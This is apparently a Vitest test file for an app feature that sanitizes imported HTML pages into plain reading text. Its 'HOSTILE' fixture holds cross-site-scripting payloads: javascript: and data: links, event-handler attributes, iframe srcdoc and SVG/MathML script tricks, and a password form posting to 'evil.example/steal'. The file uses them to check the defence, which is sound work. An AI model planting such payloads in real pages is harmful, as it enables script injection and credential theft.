import { describe, expect, it } from 'vitest';
import type { ArticleDraft } from '../../src/core/library/article-draft';
import { articleText } from '../../src/core/model/article';
import { CHUNK_CHARS as HTML_BATCH_CHARS } from '../../src/ui/library/extract-article';
import { readMetadata } from '../../src/ui/library/page-metadata';
import { draftFromHtml } from '../../src/ui/library/reduce-html';

async function draft(html: string, fileName = 'page.html'): Promise<ArticleDraft> {
  const result = await draftFromHtml(html, fileName);
  if (!result.ok) throw new Error(result.error);
  return result.value;
}

const allText = (d: ArticleDraft) => articleText(d);
const hrefs = (d: ArticleDraft) => d.blocks.flatMap((b) => (b.marks ?? []).filter((m) => m.kind === 'link').map((m) => m.href));

/** A page with every trick we know of; none of it may survive as anything but plain text. */
const HOSTILE = `<!doctype html>
<html><head>
  <title>Hostile page</title>
  <base href="https://evil.example/">
  <meta http-equiv="refresh" content="0; url=https://evil.example/">
  <link rel="stylesheet" href="https://evil.example/x.css">
  <style>body { background: url(https://evil.example/bg.png) } p::before { content: "STYLE TEXT" }</style>
  <script>window.__pwned = 'head'</script>
</head><body>
  <h1>Hostile page</h1>
  <p onclick="window.__pwned='click'">First <b onmouseover="x()">paragraph</b> <img src="https://evil.example/track.gif" onerror="window.__pwned='img'" alt="ALT TEXT">.</p>
  <p><a href="javascript:window.__pwned='link'">js link</a> <a href="  JaVaScRiPt:alert(1)">spaced js</a> <a href="data:text/html,<script>alert(1)</script>">data link</a> <a href="relative/page">relative</a> <a href="https://ok.example/a">good link</a></p>
  <iframe src="https://evil.example/frame" srcdoc="<script>parent.__pwned='iframe'</script>">IFRAME FALLBACK</iframe>
  <svg><script>window.__pwned='svg'</script><a xlink:href="javascript:alert(1)"><text>SVG TEXT</text></a><foreignObject><p>FOREIGN</p></foreignObject></svg>
  <math><mi xlink:href="javascript:alert(1)">MATH TEXT</mi><mtext><table><mglyph><style><img src=x onerror="window.__pwned='math'">MGLYPH</style></mglyph></table></mtext></math>
  <form action="https://evil.example/steal"><input name="pw" value="INPUT VALUE"><button>BUTTON TEXT</button></form>
  <noscript><img src="https://evil.example/noscript.gif">NOSCRIPT TEXT</noscript>
  <template><p>TEMPLATE TEXT</p></template>
  <object data="https://evil.example/x.swf">OBJECT TEXT</object><embed src="https://evil.example/x.swf">
  <video src="https://evil.example/v.mp4" poster="https://evil.example/p.png">VIDEO TEXT</video>
  <p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">Styled paragraph</p>
  <p>Last <!-- a comment --> words &amp; <em>emphasis</em>.</p>
  <textarea><script>alert(1)</script></textarea>
  <select><option>OPTION TEXT</option></select>
  <nav><a href="https://evil.example/">NAV LINK</a></nav>
</body></html>`;

describe('HTML files: sanitized and reduced to reading content', () => {
  it('keeps only the text of reading elements: no scripts, styles, frames, media, forms or SVG; a formula becomes its text', async () => {
    const d = await draft(HOSTILE);
    const text = allText(d);
    for (const gone of ['STYLE TEXT', 'ALT TEXT', 'IFRAME FALLBACK', 'SVG TEXT', 'FOREIGN', 'INPUT VALUE', 'BUTTON TEXT', 'NOSCRIPT TEXT', 'TEMPLATE TEXT', 'OBJECT TEXT', 'VIDEO TEXT', 'OPTION TEXT', 'NAV LINK', '__pwned', 'alert', 'a comment']) {
      expect(text).not.toContain(gone);
    }
    expect(d.title).toBe('Hostile page');
    expect(d.blocks.filter((b) => b.kind !== 'image').map((b) => b.text)).toEqual(['First paragraph .', 'js link spaced js data link relative good link', expect.stringMatching(/^MATH TEXT/), 'Styled paragraph', 'Last words & emphasis.']);
    // The image is a placeholder with its alt text, never fetched, never part of the text.
    expect(d.blocks.find((b) => b.kind === 'image')).toEqual({ kind: 'image', text: '', image: { src: 'https://evil.example/track.gif', alt: 'ALT TEXT' } });
    expect(d.simplified).toEqual(['1 formula shown as text (TeX), as the page wrote it', '5 videos, drawings or other embedded items left out']);
    expect((window as { __pwned?: string }).__pwned).toBeUndefined();
  });

  it('keeps only absolute http(s) links, never resolving against a <base>', async () => {
    expect(hrefs(await draft(HOSTILE))).toEqual(['https://ok.example/a']);
  });

  it('keeps emphasis and strong as marks', async () => {
    const d = await draft(HOSTILE);
    const last = d.blocks.find((b) => b.text.startsWith('Last'));
    expect(last?.marks).toEqual([{ kind: 'em', start: 13, end: 21 }]);
    const first = d.blocks[0];
    expect(first?.marks).toEqual([{ kind: 'strong', start: 6, end: 15 }]);
  });

  it('maps headings, paragraphs, lists, quotes, figures and captions to blocks', async () => {
    const d = await draft(`<article>
      <h1>The headline</h1>
      <p class="standfirst">A standfirst.</p>
      <h2>A section</h2>
      <ul><li>one <a href="https://x.example/">linked</a></li><li>two<ul><li>nested</li></ul></li></ul>
      <ol><li><p>first</p><p>continued</p></li></ol>
      <blockquote><p>Quoted one.</p><p>Quoted two.</p></blockquote>
      <figure><img src="https://cdn.example/photo.jpg" alt="A photo"><figcaption>The caption.</figcaption></figure>
      <div>Loose text in a div <span>with a span</span></div>
      <table><caption>Casualties</caption><tr><th>Year</th><th>Count</th></tr><tr><td>2015</td><td>55,000</td></tr></table>
      <address>By A. Writer</address>
    </article>`);
    expect(d.title).toBe('The headline');
    expect(d.blocks.map((b) => [b.kind, b.text, ...(b.kind === 'list-item' ? [b.ordered] : [])])).toEqual([
      ['paragraph', 'A standfirst.'],
      ['heading', 'A section'],
      ['list-item', 'one linked', false],
      ['list-item', 'two', false],
      ['list-item', 'nested', false],
      ['list-item', 'first continued', true],
      ['quote', 'Quoted one.'],
      ['quote', 'Quoted two.'],
      ['image', 'The caption.'],
      ['paragraph', 'Loose text in a div with a span'],
      ['caption', 'Casualties'],
      ['paragraph', 'Year · Count'],
      ['paragraph', '2015 · 55,000'],
      ['byline', 'By A. Writer'],
    ]);
  });

  it('reads only the <article> of a page with one, leaving out menus, sidebars and footers', async () => {
    const d = await draft('<body><header><p>Site menu</p></header><article><h1>Story</h1><p>Body.</p><p>More.</p></article><footer><p>Copyright</p></footer></body>');
    expect(d.blocks.map((b) => b.text)).toEqual(['Body.', 'More.']);
  });

  it('takes title and source from the metadata: og:title, og:site_name, canonical address, publication date', async () => {
    const d = await draft(`<html><head><title>Story title | The Courier</title>
      <meta property="og:site_name" content="The Courier"><meta name="author" content="Jo Bloggs">
      <link rel="canonical" href="https://courier.example/story"><meta property="article:published_time" content="2026-03-01T08:00:00Z">
      </head><body><p>Para <a href="/other">other story</a>.</p><p>Two.</p></body></html>`);
    expect(d.title).toBe('Story title');
    expect(d.source).toEqual({ name: 'The Courier', url: 'https://courier.example/story' });
    expect(d.published).toBe('2026-03-01T08:00:00Z');
    // Relative links resolve against the page's own canonical address.
    expect(hrefs(d)).toEqual(['https://courier.example/other']);
  });

  it('falls back to the author, and ignores a javascript: canonical address', async () => {
    const doc = new DOMParser().parseFromString('<head><meta name="author" content="Jo Bloggs"><link rel="canonical" href="javascript:alert(1)"></head><body><h1>H</h1></body>', 'text/html');
    expect(readMetadata(doc)).toEqual({ title: 'H', source: { name: 'Jo Bloggs' } });
  });

  it('refuses a page with no readable text, saying what to do instead', async () => {
    const result = await draftFromHtml('<html><head><title>App</title><script src="app.js"></script></head><body><div id="root"></div><noscript>Enable JS</noscript></body></html>', 'app.html');
    expect(result).toEqual({ ok: false, error: expect.stringMatching(/“app\.html” has no text to read.*paste it instead/) });
  });

  it('is the same article as the same text pasted as plain text', async () => {
    const { parseTextSource } = await import('../../src/core/library/parse-text');
    const html = await draft('<h1>Same story</h1><p>First paragraph.</p><p>Second  paragraph.</p>');
    const text = parseTextSource({ text: 'Same story\n\nFirst paragraph.\n\nSecond paragraph.', format: 'auto' });
    expect(text.ok && text.value.id).toBe(html.id);
  });

  it('handles a large page in batches, looking through wrapper elements, with the same result', async () => {
    const filler = 'and a long tail of words that makes the page heavy without making it slow to check '.repeat(2);
    const paragraphs = Array.from({ length: 600 }, (_, i) => `<p>Paragraph ${i + 1} with <em>some</em> words ${filler}</p>`);
    expect(paragraphs.join('\n').length).toBeGreaterThan(HTML_BATCH_CHARS);
    let pauses = 0;
    const result = await draftFromHtml(`<body><div id="page"><div class="content"><h1>Big</h1>${paragraphs.join('\n')}</div></div></body>`, 'big.html', async () => {
      pauses += 1;
    });
    expect(pauses).toBeGreaterThanOrEqual(1);
    expect(result.ok && result.value.blocks.length).toBe(600);
    expect(result.ok && result.value.blocks[599]).toEqual({ kind: 'paragraph', text: `Paragraph 600 with some words ${filler.trim()}`, marks: [{ kind: 'em', start: 19, end: 23 }] });
  }, 30_000);

  it('says of a paste with no text that it was the paste, and to paste the words again (not to paste instead)', async () => {
    const result = await draftFromHtml('<p><img src="https://example.org/a.png" alt=""></p>');
    expect(result).toEqual({ ok: false, error: expect.stringMatching(/^The pasted text has no text to read: .*Select the article’s words themselves and paste again\.$/) });
  });

  it('never reads the source of a script as text, even when it is all the page holds', async () => {
    const result = await draftFromHtml('<body><script>if (a < b) { steal("<p>not text</p>") }</script></body>', 'script.html');
    expect(result).toEqual({ ok: false, error: expect.stringMatching(/has no text to read/) });
  });
});
